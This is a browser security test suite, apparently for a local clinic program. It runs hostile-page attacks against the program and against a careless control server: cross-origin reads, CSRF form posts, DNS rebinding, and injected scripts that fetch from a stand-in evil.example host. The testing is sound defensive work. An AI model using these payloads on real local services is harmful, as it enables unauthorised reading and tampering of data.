"""A hostile page in the same browser tries everything a page can try, and gets nothing.

It comes from another port of this computer, from another name, and from a name that points here
(DNS rebinding). The program runs without log-in: no password and no cookie protects it, only its
door. Every attack is also made on a careless server that protects itself in no way, where it must
get through: an attack that cannot succeed proves nothing.
"""

from __future__ import annotations

import base64
import hashlib
import os
import sqlite3
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, cast

import pytest
from playwright.sync_api import Browser, Page, Response, sync_playwright
from playwright.sync_api import Error as BrowserError

from app.doors import POLICY
from tests.films import encode
from tests.running import ROOT, serving

pytestmark = pytest.mark.browser

SECRET = "Kisoro-planted"
#: Names that the browser takes for addresses of this computer: as a hostile name server would say.
EVIL, REBOUND = "evil.example", "rebound.example"
PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="
)


@dataclass
class Target:
    """What is attacked: where it is, and what of it would be worth having or changing."""

    port: int
    read: str
    """An address that only the target's own pages may read."""
    picture: str
    page: str
    script: str
    style: str
    change: Callable[[], str] = field(repr=False)
    """How the target stands: any change of it is one too many."""

    @property
    def at(self) -> str:
        return f"http://127.0.0.1:{self.port}"


class Careless(ThreadingHTTPServer):
    """A server that answers whoever asks, whatever is asked: the control of every attack."""

    def __init__(self, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), _Careless)
        self.sent: list[bytes] = []


class _Careless(BaseHTTPRequestHandler):
    server: Careless

    def do_GET(self) -> None:
        if key := self.headers.get("Sec-WebSocket-Key"):
            self._shake_hands(key)
            return
        kind, body = {
            "/picture": ("image/png", PICTURE),
            "/script": ("text/javascript", b"window.included = true;"),
            "/style": ("text/css", b"body { color: red }"),
            "/events": ("text/event-stream", b"data: x\n\n"),
        }.get(self.path, ("text/html", f"<title>x</title><p>{SECRET}</p>".encode()))
        self._answer(kind, body)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.sent.append(body)
        self._answer("text/html", b"taken")

    def do_OPTIONS(self) -> None:
        self._answer("text/plain", b"")

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing."""

    def _answer(self, kind: str, body: bytes) -> None:
        self.send_response(200)
        origin = self.headers.get("Origin", "*")
        for name, value in (
            ("Content-Type", kind),
            ("Content-Length", str(len(body))),
            ("Access-Control-Allow-Origin", origin),
            ("Access-Control-Allow-Credentials", "true"),
            ("Access-Control-Allow-Headers", "content-type, authorization"),
            ("Access-Control-Allow-Methods", "GET, POST, PUT, DELETE"),
        ):
            self.send_header(name, value)
        if self.path == "/in-a-sandbox":
            self.send_header("Content-Security-Policy", SANDBOX)
        self.end_headers()
        self.wfile.write(body)

    def _shake_hands(self, key: str) -> None:
        words = f"{key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11".encode()
        accept = base64.b64encode(hashlib.sha1(words, usedforsecurity=False).digest()).decode()
        self.send_response(101)
        for name, value in (
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Accept", accept),
        ):
            self.send_header(name, value)
        self.end_headers()
        self.close_connection = True


@contextmanager
def running(server: ThreadingHTTPServer) -> Iterator[int]:
    thread = threading.Thread(target=server.serve_forever, args=[0.05], daemon=True)
    thread.start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def careless() -> Iterator[Target]:
    server = Careless()
    with running(server) as port:
        yield Target(
            port,
            read="/secret",
            picture="/picture",
            page="/page",
            script="/script",
            style="/style",
            change=lambda: str(len(server.sent)),
        )


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The program without log-in, with a film in it: whoever reaches it is its administrator."""
    import numpy as np

    home = tmp_path_factory.mktemp("hostile")
    film = home / f"{SECRET}.png"
    film.write_bytes(encode(np.tile(np.arange(256, dtype=np.uint8), (256, 1)), "PNG"))
    environment = {**os.environ, "CLINIC_HOME": str(home / "data")}
    with serving([sys.executable, str(ROOT / "run_clinic.py")], environment) as (visitor, _):
        study = visitor.upload(film).partition("?")[0]
        visitor.wait_for_answer(study)
        yield Target(
            int(visitor.address.rpartition(":")[2]),
            read=f"{study}status",
            picture="/films/1.png",
            page=study,
            script="/static/clinic/study.js",
            style="/static/clinic/clinic.css",
            change=lambda: standing(home / "data" / "clinic.sqlite3"),
        )


def standing(database: Path) -> str:
    """What a hostile page would want to change, and how much was written down as done."""
    asked = (
        "SELECT count FROM clinic_audithead",
        "SELECT clinic_name, single_user FROM clinic_site",
        "SELECT username, language FROM clinic_user",
        "SELECT count(*) FROM clinic_instance",
    )
    with closing(sqlite3.connect(f"{database.as_uri()}?mode=ro", uri=True)) as opened:
        return str([opened.execute(question).fetchall() for question in asked])


@pytest.fixture(scope="module")
def fooled(chromium: Path) -> Iterator[Browser]:
    """A browser whose name server is the attacker's."""
    rules = f"MAP {EVIL} 127.0.0.1, MAP {REBOUND} 127.0.0.1"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(chromium),
            args=[
                "--no-sandbox",
                "--disable-dev-shm-usage",
                f"--host-resolver-rules={rules}",
                # Newer browsers keep pages of the internet from this computer; older ones do not
                "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
            ],
        )
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def attacker() -> Iterator[int]:
    with running(Careless()) as port:
        yield port


#: Another port of this computer is the same site; another name is another site; a page in a sandbox
#: has no origin at all.
PLACES = ("another port", "another name", "a sandbox")
SANDBOX = "sandbox allow-scripts allow-forms allow-popups allow-top-navigation"


@pytest.fixture(params=PLACES)
def page(request: pytest.FixtureRequest, fooled: Browser, attacker: int) -> Iterator[Page]:
    """The hostile page."""
    context = fooled.new_context(accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(15_000)
    place = {"another name": EVIL}.get(request.param, "127.0.0.1")
    address = "/in-a-sandbox" if request.param == "a sandbox" else "/hostile"
    page.goto(f"http://{place}:{attacker}{address}")
    yield page
    context.close()


FETCH = """async ([url, options]) => {
  try { const r = await fetch(url, options); return await r.text(); } catch { return ""; }
}"""
LOADS = """([tag, attribute, url, more]) => new Promise((done) => {
  const element = Object.assign(document.createElement(tag), more || {});
  element.onload = () => done(tag !== "img" || element.naturalWidth > 0);
  element.onerror = () => done(false);
  element.setAttribute(attribute, url);
  (tag === "link" ? document.head : document.body).append(element);
  setTimeout(() => done(false), 8000);
})"""
FORM = """([url, kind, fields]) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url, enctype: kind, target: "_self" });
  for (const [name, value] of Object.entries(fields)) {
    const field = Object.assign(document.createElement("textarea"), { name, value });
    form.append(field);
  }
  document.body.append(form);
  form.submit();
}"""
SOCKET = """(url) => new Promise((done) => {
  const socket = new WebSocket(url);
  socket.onopen = () => done(true);
  socket.onerror = () => done(false);
  setTimeout(() => done(false), 8000);
})"""
EVENTS = """(url) => new Promise((done) => {
  const source = new EventSource(url, { withCredentials: true });
  source.onopen = () => { source.close(); done(true); };
  source.onerror = () => { source.close(); done(false); };
})"""
PIXELS = """(url) => new Promise((done) => {
  const image = new Image();
  image.crossOrigin = "use-credentials";
  image.onload = () => {
    const canvas = document.createElement("canvas");
    canvas.getContext("2d").drawImage(image, 0, 0);
    try { canvas.toDataURL(); done(true); } catch { done(false); }
  };
  image.onerror = () => done(false);
  image.src = url;
})"""
BEACON = "([url, body]) => navigator.sendBeacon(url, body)"


def reads(page: Page, target: Target, **options: object) -> bool:
    words = page.evaluate(FETCH, [target.at + target.read, options])
    return bool(words)


def frames(page: Page, target: Target) -> bool:
    """Whether a frame of the hostile page shows a page of the target."""
    page.evaluate(
        "(src) => document.body.append(Object.assign(document.createElement('iframe'), {src}))",
        target.at + target.page,
    )
    page.wait_for_timeout(1500)
    try:
        return any(
            frame.url.startswith(target.at) and SECRET in frame.content()
            for frame in page.frames[1:]
        )
    except BrowserError:
        return False


def changes(page: Page, target: Target, deed: Callable[[], object]) -> bool:
    before = target.change()
    deed()
    page.wait_for_timeout(700)
    return target.change() != before


def sends(page: Page, target: Target, kind: str, fields: dict[str, str], to: str) -> bool:
    return changes(page, target, lambda: page.evaluate(FORM, [target.at + to, kind, fields]))


def keeps_hold(page: Page, target: Target) -> bool:
    """Whether a page that was opened stays in the hand of the one that opened it."""
    with page.context.expect_page() as opened:
        page.evaluate("(url) => { window.held = window.open(url); }", target.at + target.page)
    opened.value.wait_for_load_state()
    return bool(page.evaluate("!window.held.closed"))


def downloads(page: Page, target: Target) -> bool:
    """Whether a link of the hostile page puts a film before whoever clicks on it."""
    page.evaluate(
        """(url) => document.body.append(Object.assign(document.createElement("a"),
        {href: url, download: "film.png", id: "link", textContent: "a link"}))""",
        target.at + target.picture,
    )
    answers: list[Response] = []
    page.context.on("response", lambda answer: answers.append(answer))
    page.click("#link")
    page.wait_for_timeout(1000)
    return any(a.ok for a in answers if a.url == target.at + target.picture)


OPENS_A_WINDOW = "keeps hold of a page that it opened"
WORDS = "application/x-www-form-urlencoded"
SETTINGS = {"clinic_name": "Pwned", "mode": "single_user"}
FILM = "--x\r\nContent-Disposition: form-data; name=films; filename=Pwned.png\r\n\r\nx\r\n--x--\r\n"
MULTIPART = "multipart/form-data; boundary=x"
ATTACKS: dict[str, Callable[[Page, Target], bool]] = {
    "reads data": lambda p, t: reads(p, t, credentials="include"),
    "reads data as nobody": lambda p, t: reads(p, t, credentials="omit"),
    "reads data with a token": lambda p, t: reads(p, t, headers={"Authorization": "Bearer x"}),
    "shows a film": lambda p, t: p.evaluate(LOADS, ["img", "src", t.at + t.picture]),
    "takes the pixels of a film": lambda p, t: p.evaluate(PIXELS, t.at + t.picture),
    "runs a script of ours": lambda p, t: p.evaluate(LOADS, ["script", "src", t.at + t.script]),
    "wears a sheet of ours": lambda p, t: p.evaluate(
        LOADS, ["link", "href", t.at + t.style, {"rel": "stylesheet"}]
    ),
    "frames a page": frames,
    "embeds a page": lambda p, t: p.evaluate(LOADS, ["object", "data", t.at + t.page]),
    OPENS_A_WINDOW: keeps_hold,
    "opens a socket": lambda p, t: p.evaluate(SOCKET, f"ws://127.0.0.1:{t.port}{t.page}"),
    "listens to events": lambda p, t: p.evaluate(
        EVENTS, t.at + ("/events" if t.page == "/page" else t.read)
    ),
    "sends a form": lambda p, t: sends(p, t, WORDS, SETTINGS, "/settings"),
    "sends a form as plain text": lambda p, t: sends(
        p, t, "text/plain", {'{"x":"': '"}'}, "/api/v1/studies"
    ),
    "sends a form of many parts": lambda p, t: sends(
        p, t, "multipart/form-data", {"films": "Pwned"}, "/upload"
    ),
    "changes the language": lambda p, t: sends(p, t, WORDS, {"language": "fr"}, "/language"),
    "logs out": lambda p, t: sends(p, t, WORDS, {}, "/log-out"),
    "posts a film unseen": lambda p, t: changes(p, t, lambda: p.evaluate(FETCH, [
        t.at + "/upload", {"method": "POST", "mode": "no-cors", "credentials": "include",
                           "headers": {"Content-Type": MULTIPART}, "body": FILM},
    ])),
    "posts JSON": lambda p, t: changes(p, t, lambda: p.evaluate(FETCH, [
        t.at + "/api/v1/studies", {"method": "POST", "credentials": "include", "body": "{}",
                                   "headers": {"Content-Type": "application/json"}},
    ])),
    "leaves a beacon": lambda p, t: changes(
        p, t, lambda: p.evaluate(BEACON, [t.at + "/settings", "clinic_name=Pwned"])
    ),
    "leads to a film": downloads,
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
class TestHostilePage:
    def test_it_gets_nothing_of_the_program(self, page, program, attack):
        before = program.change()

        assert not ATTACKS[attack](page, program)
        # That a page of ours was opened in a window of its own is no fault, and written down
        assert program.change() == before or attack == OPENS_A_WINDOW

    def test_it_would_get_through_to_a_careless_server(self, page, careless, attack):
        assert ATTACKS[attack](page, careless)


class TestRebinding:
    """The attacker's name points here after its page was loaded: to the browser one origin."""

    @pytest.fixture
    def rebound(self, fooled: Browser) -> Iterator[Page]:
        context = fooled.new_context()
        page = context.new_page()
        page.route(
            f"http://{REBOUND}:*/hostile",
            lambda route: route.fulfill(body="<title>x</title>", content_type="text/html"),
        )
        yield page
        context.close()

    def words(self, page: Page, target: Target, address: str) -> tuple[int, str]:
        page.goto(f"http://{REBOUND}:{target.port}/hostile")
        return cast(
            tuple[int, str],
            tuple(
                page.evaluate(
                    """async (url) => { const r = await fetch(url, {credentials: "include"});
                    return [r.status, await r.text()]; }""",
                    address,
                )
            ),
        )

    @pytest.mark.parametrize(
        "address", ["/", "/healthz", "/audit.jsonl", "/static/clinic/study.js"]
    )
    def test_it_reads_nothing_of_the_program(self, rebound, program, address):
        status, words = self.words(rebound, program, address)

        assert status == 400
        assert words.strip().endswith("Nothing was done.")

    def test_it_would_read_a_careless_server(self, rebound, careless):
        assert SECRET in self.words(rebound, careless, "/secret")[1]

    def test_it_changes_nothing(self, rebound, program):
        before = program.change()
        rebound.goto(f"http://{REBOUND}:{program.port}/hostile")
        status = rebound.evaluate(
            """async () => (await fetch("/settings", {method: "POST", credentials: "include",
            body: new URLSearchParams({clinic_name: "Pwned"})})).status"""
        )

        assert status == 400
        assert program.change() == before

    def test_a_person_who_is_led_there_sees_nothing(self, rebound, program):
        answer = rebound.goto(f"http://{REBOUND}:{program.port}/")

        assert answer.status == 400
        assert SECRET not in rebound.content()


INJECT: dict[str, str] = {
    "a script in the page": "element('script', {textContent: 'window.got = true'})",
    "a handler in the page": """element('img', {src: 'data:,x'}).setAttribute('onerror',
        'window.got = true')""",
    "a link that is a script": "element('a', {href: 'javascript:window.got = true'}).click()",
    "words that become a script": "setTimeout('window.got = true')",
    "a script of another server": "element('script', {src: there + '/script'})",
    "a style in the page": """element('style', {textContent: 'body { --got: 1 }'});
        window.got = getComputedStyle(document.body).getPropertyValue('--got') === '1'""",
    "a picture of another server": """element('img', {src: there + '/picture',
        onload: () => { window.got = true }})""",
    "a call to another server": """fetch(there + '/secret').then(() => { window.got = true },
        () => {})""",
    "a frame": """element('iframe', {src: there + '/page'});
        setTimeout(() => { window.got = seen.length === 0 }, 500)""",
    "another base": """element('base', {href: there + '/'}, document.head);
        window.got = new URL('x', document.baseURI).href.startsWith(there)""",
    "an object": """element('object', {data: there + '/page', onload: () => {
        window.got = true }})""",
}
ROOM = """(there) => {
  window.got = false; window.included = false; window.seen = [];
  document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
  window.there = there;
  window.element = (tag, more, where) => {
    const made = Object.assign(document.createElement(tag), more);
    (where || document.body).append(made);
    return made;
  };
}"""


@pytest.mark.parametrize("what", INJECT)
class TestInjected:
    """Should somebody's words ever become part of a page, the policy lets them do nothing."""

    def does(self, page: Page, attacker: int, what: str) -> bool:
        page.evaluate(ROOM, f"http://{EVIL}:{attacker}")
        page.evaluate(f"() => {{ {INJECT[what]} }}")
        page.wait_for_timeout(1000)
        return bool(page.evaluate("window.got || window.included"))

    def test_it_does_nothing_in_our_pages(self, fooled, program, attacker, what):
        context = fooled.new_context()
        page = context.new_page()
        answer = page.goto(program.at + program.page)
        done = self.does(page, attacker, what)
        seen = page.evaluate("window.seen")
        context.close()

        assert answer.headers["content-security-policy"] == POLICY
        assert not done
        assert seen

    def test_it_would_in_a_page_without_a_policy(self, fooled, careless, attacker, what):
        context = fooled.new_context()
        page = context.new_page()
        page.goto(careless.at + careless.page)
        done = self.does(page, attacker, what)
        context.close()

        assert done


class TestAForm:
    def test_it_cannot_be_made_to_send_to_another_server(self, fooled, program, careless):
        context = fooled.new_context()
        page = context.new_page()
        page.goto(program.at + "/settings")
        before = careless.change()
        page.evaluate(
            "(url) => { const form = document.querySelector('main form');"
            " form.action = url; form.submit(); }",
            careless.at + "/taken",
        )
        page.wait_for_timeout(1000)
        context.close()

        assert careless.change() == before
